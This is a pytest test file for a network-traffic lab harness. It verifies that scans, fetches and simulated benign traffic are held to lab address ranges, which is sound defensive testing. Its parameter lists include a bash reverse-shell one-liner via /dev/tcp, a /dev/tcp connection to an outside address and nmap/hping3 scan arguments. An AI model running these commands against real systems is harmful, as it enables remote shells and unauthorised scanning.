"""lab/run.py's address guards: every target handed to a tool must be inside the lab ranges (no root needed)."""

from __future__ import annotations

import importlib.util
import sys
from pathlib import Path

import pytest

RUN_PY = Path(__file__).resolve().parents[2] / "lab" / "run.py"
_spec = importlib.util.spec_from_file_location("nta_lab_run", RUN_PY)
assert _spec is not None and _spec.loader is not None
labrun = importlib.util.module_from_spec(_spec)
sys.modules["nta_lab_run"] = labrun  # dataclasses look their module up there
_spec.loader.exec_module(labrun)


@pytest.mark.parametrize(
    "argv",
    [
        ["nmap", "-n", "-sS", "10.77.4.9", "10.77.4.0/24"],
        ["curl", "-sk", "https://10.77.8.1:443/x", "http://[fd77::5]/y"],
        ["bash", "-c", "bash -i >& /dev/tcp/10.77.63.171/444 0>&1"],
        ["hping3", "--rand-dest", "10.77.61.x", "-c", "5"],
        ["ping", "-c", "1", "fd77:0:0:1::2"],
        ["lftp", "-e", "get a -o /dev/null; bye", "127.0.0.1"],
    ],
)
def test_lab_targets_pass(argv: list[str]) -> None:
    labrun.assert_argv_lab(argv)


@pytest.mark.parametrize(
    "argv",
    [
        ["nmap", "10.0.0.0/8"],
        ["nmap", "10.77.0.0/8"],
        ["curl", "http://192.168.1.1/"],
        ["ping", "8.8.8.8"],
        ["nmap", "-6", "fd00::2"],
        ["bash", "-c", "cat </dev/tcp/1.2.3.4/80"],
        ["hping3", "--rand-dest", "192.0.2.x"],
    ],
)
def test_other_targets_are_refused(argv: list[str]) -> None:
    with pytest.raises(AssertionError):
        labrun.assert_argv_lab(argv)


def test_tgt_and_plan_stay_in_the_lab() -> None:
    with pytest.raises(AssertionError):
        labrun.tgt("192.0.2.2")
    for seed in (1, 2, 3, 101):
        plan = labrun.Plan(seed, 10)
        addrs = [a for h in plan.all_hosts() for a in h.v4 + h.v6]
        assert all(labrun.in_lab(a) for a in addrs)
        assert len(set(addrs)) == len(addrs)
        assert all(labrun.in_lab(str(n)) for n in (plan.main4, plan.rem4, plan.main6, plan.rem6, plan.spoof4))
        assert not any(ipa in plan.spoof4 for ipa in map(labrun.ipaddress.ip_address, (a for a in addrs if "." in a)))


def test_browser_like_page_loads_stay_in_the_lab(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The benign page load's command line, for several seeds, passes the guard ``nsx`` applies before running
    anything, and fetches one connection per object from the lab's web server (and its CDN addresses)."""
    import types

    www = tmp_path / "www"
    for i in range(40):
        (www / "static").mkdir(parents=True, exist_ok=True)
        (www / "static" / f"o{i}.js").write_text("x")
    ran: list[tuple[str, list[str]]] = []

    def fake_nsx(ns: str, argv: list[str], timeout: float = 60, **_kw: object) -> object:
        assert ns.startswith(labrun.PREFIX)
        labrun.assert_argv_lab(argv)  # what nsx checks before it runs anything
        ran.append((ns, argv))
        return None

    monkeypatch.setattr(labrun, "nsx", fake_nsx)
    for seed in (1, 2, 3, 8, 9, 101):
        plan = labrun.Plan(seed, 10)
        lab = types.SimpleNamespace(p=plan, w=tmp_path, long_lived=False, modern_udp=False)
        client = plan.clients[0]
        for k in range(5):
            labrun.Benign(lab, client, seed * 10 + k).a_page_load()
    assert len(ran) == 30
    for ns, argv in ran:
        assert argv[:2] == ["sh", "-c"] and "| xargs -P " in argv[2] and " -n 1 curl " in argv[2]
        assert ns.startswith(labrun.PREFIX)
        urls = [t for t in argv[2].split() if t.startswith(("'http", "http"))]
        assert len(urls) >= 7  # the page and its objects, each its own connection


def test_lan_chatter_stays_on_the_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The chatter action hands only lab addresses to the agent (its segment's broadcast for NetBIOS), and the
    agent's groups are link-scope (224.0.0.0/24, ff02::/16) or sent with TTL 1 (SSDP's 239.255.255.250)."""
    import types

    agents_spec = importlib.util.spec_from_file_location("nta_lab_agents", RUN_PY.parent / "agents.py")
    assert agents_spec is not None and agents_spec.loader is not None
    agents = importlib.util.module_from_spec(agents_spec)
    agents_spec.loader.exec_module(agents)
    for g4, g6, _port in agents.CHATTER_GROUPS.values():
        assert labrun.ipaddress.ip_address(g4).is_multicast and labrun.ipaddress.ip_address(g6).is_multicast
        assert g6.startswith("ff02:")  # IPv6 link scope
        assert g4.startswith("224.0.0.") or g4 == "239.255.255.250"
    with pytest.raises(SystemExit):
        agents.lab_addr("192.168.1.10")
    # NetBIOS first-level encoding (RFC 1002): "WPAD" -> FHFAEBEE, then 11 spaces (CA) and the 0x00 suffix (AA)
    q = agents.netbios_query("wpad", 1)
    assert q[13:45] == b"FHFAEBEE" + b"CA" * 11 + b"AA" and q[2:4] == b"\x01\x10"
    assert agents.dns_query("printer.local", 1)[12:] == b"\x07printer\x05local\x00\x00\x01\x00\x01"

    ran: list[list[str]] = []

    def fake_nsx(ns: str, argv: list[str], timeout: float = 60, **_kw: object) -> object:
        labrun.assert_argv_lab(argv)
        ran.append(argv)
        return None

    monkeypatch.setattr(labrun, "nsx", fake_nsx)
    for seed in (1, 2, 10, 101):
        plan = labrun.Plan(seed, 10)
        lab = types.SimpleNamespace(p=plan, w=tmp_path, long_lived=False, modern_udp=False)
        for client in plan.clients:
            for k in range(6):
                labrun.Benign(lab, client, seed * 100 + k).a_lan_chatter()
    assert {a[3] for a in ran} == {"netbios", "llmnr", "mdns", "ssdp"}
    for argv in ran:
        if argv[3] == "netbios":
            bcast = argv[argv.index("--bcast") + 1]
            assert labrun.in_lab(bcast) and bcast.endswith("255")


def test_long_lived_connections_stay_in_the_lab_and_leave_old_runs_unchanged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--long-lived`` adds one action whose draws come after the old mix (a run without it draws what it drew
    before: the registered held-out run stays reproducible); the action starts background connections to the lab's
    web, mail or SSH server only, and never more at once than the client's slots."""
    import types

    (tmp_path / "www" / "static").mkdir(parents=True)
    for i in range(8):
        (tmp_path / "www" / "static" / f"o{i}.css").write_text("x")
    started: list[list[str]] = []
    servers: set[str] = set()

    class Proc:
        def poll(self) -> None:
            return None  # still running

    def fake_nspopen(ns: str, argv: list[str], logfile: Path, user: str | None = None, name: str = "") -> Proc:
        assert ns.startswith(labrun.PREFIX)
        labrun.assert_argv_lab(argv)  # what nspopen checks before it starts anything
        started.append(argv)
        return Proc()

    monkeypatch.setattr(labrun, "nspopen", fake_nspopen)
    for seed in (1, 11, 101):
        plan = labrun.Plan(seed, 10)
        servers.update(plan.h("web").v4 + plan.h("mail").v4 + [f"{labrun.USER}@{plan.h('srv').v4[0]}"])
        client = plan.clients[0]
        old = labrun.Benign(types.SimpleNamespace(p=plan, w=tmp_path, long_lived=False, modern_udp=False), client, seed)
        lab = types.SimpleNamespace(
            p=plan, w=tmp_path, long_lived=True, modern_udp=False, services={"imap": True}, logs=tmp_path
        )
        new = labrun.Benign(lab, client, seed)
        assert "persist" not in old.weights and "persist" in new.weights
        assert {k: v for k, v in new.weights.items() if k != "persist"} == old.weights
        assert old.rng.random() != new.rng.random()  # the new draws happened after the old ones
        n = len(started)
        results = [new.a_persist() for _ in range(new.persist_max + 3)]
        assert results.count(False) == 3 and len(started) - n == new.persist_max  # slots full: nothing more starts
    kinds = set()
    for argv in started:
        if argv[0] == "sshpass":
            kinds.add("ssh")
            assert any(a.startswith("ServerAliveInterval=") for a in argv)
            assert argv[argv.index("sleep") - 1] in servers
        else:
            kinds.add(argv[argv.index("--proto") + 1])
            assert float(argv[argv.index("--seconds") + 1]) >= 30
            assert argv[argv.index("--host") + 1] in servers
    assert kinds <= {"http", "https", "imap", "ssh"} and len(kinds) >= 3


def test_modern_udp_stays_in_the_lab_and_leaves_old_runs_unchanged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--modern-udp`` adds two actions drawn after everything else (runs without it, --long-lived or not, draw
    what they drew); QUIC sessions go to the web host's addresses only, calls to its first address, one at a time."""
    import types

    started: list[list[str]] = []
    ran: list[list[str]] = []

    class Proc:
        def poll(self) -> None:
            return None

    def fake_nspopen(ns: str, argv: list[str], logfile: Path, user: str | None = None, name: str = "") -> Proc:
        assert ns.startswith(labrun.PREFIX)
        labrun.assert_argv_lab(argv)
        started.append(argv)
        return Proc()

    def fake_x(self: object, argv: list[str], timeout: float = 30) -> None:
        labrun.assert_argv_lab(argv)
        ran.append(argv)

    monkeypatch.setattr(labrun, "nspopen", fake_nspopen)
    monkeypatch.setattr(labrun.Benign, "x", fake_x)
    for seed in (1, 13, 101):
        plan = labrun.Plan(seed, 10)
        client = plan.clients[0]
        for long_lived in (False, True):
            base = dict(p=plan, w=tmp_path, long_lived=long_lived, services={"imap": True}, logs=tmp_path)
            old = labrun.Benign(types.SimpleNamespace(**base, modern_udp=False), client, seed)
            new = labrun.Benign(types.SimpleNamespace(**base, modern_udp=True), client, seed)
            assert {k: v for k, v in new.weights.items() if k not in ("quic", "call")} == old.weights
            assert "quic" in new.weights and "call" in new.weights and "quic" not in old.weights
        for _ in range(5):
            new.a_quic()
        assert [new.a_call(), new.a_call()] == [None, False]  # the first call still runs: no second one
        web = set(plan.h("web").v4)
        assert all(argv[argv.index("--host") + 1] in web for argv in ran[-5:])
        assert started[-1][started[-1].index("--host") + 1] == plan.h("web").v4[0] and "call" in started[-1]
    assert len({argv[argv.index("--host") + 1] for argv in ran}) > 3  # CDN addresses too


def test_start_bursts_stay_in_the_lab_and_leave_old_runs_unchanged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--start-bursts`` adds one action drawn after everything else (runs without it draw what they drew); a burst
    runs 4-10 short actions of ``BURST_ACTIONS`` (plus QUIC with --modern-udp), every command inside the lab, and
    the same seed gives the same burst whatever order its threads finish in."""
    import threading
    import types

    ran: list[list[str]] = []
    lock = threading.Lock()

    def fake_x(self: object, argv: list[str], timeout: float = 30) -> None:
        labrun.assert_argv_lab(argv)
        with lock:
            ran.append(argv)

    monkeypatch.setattr(labrun.Benign, "x", fake_x)
    monkeypatch.setattr(labrun, "interactive", lambda *a, **k: None)
    monkeypatch.setattr(labrun.STOP, "wait", lambda t=None: False)  # no delays in the test
    services = {"imap": True, "ntp": True, "smb": True, "pop3": True, "smtp": True}
    for i in range(8):  # the web root's pages and objects, which page loads draw from
        (tmp_path / "www" / "img").mkdir(parents=True, exist_ok=True)
        (tmp_path / "www" / "img" / f"o{i}.png").write_bytes(b"x")
    for seed in (1, 15, 101):
        plan = labrun.Plan(seed, 10)
        client = plan.clients[0]
        for modern in (False, True):
            base = dict(p=plan, w=tmp_path, long_lived=True, modern_udp=modern, services=services, logs=tmp_path)
            lab = types.SimpleNamespace(**base, start_bursts=False, benign_lock=lock, benign_stats={})
            old = labrun.Benign(lab, client, seed)
            new_lab = types.SimpleNamespace(**base, start_bursts=True, benign_lock=lock, benign_stats={})
            new = labrun.Benign(new_lab, client, seed)
            assert {k: v for k, v in new.weights.items() if k != "burst"} == old.weights
            assert "burst" in new.weights and "burst" not in old.weights
        counts = []
        for _ in range(2):
            new_lab.benign_stats.clear()
            again = labrun.Benign(new_lab, client, seed)
            n = len(ran)
            again.a_burst()
            parts = {k: v for k, v in new_lab.benign_stats.items() if k.startswith("burst:")}
            assert 4 <= sum(parts.values()) <= 11 and not any(k.startswith("error") for k in new_lab.benign_stats)
            assert len(ran) > n
            counts.append(parts)
        assert counts[0] == counts[1]  # the seed decides the burst
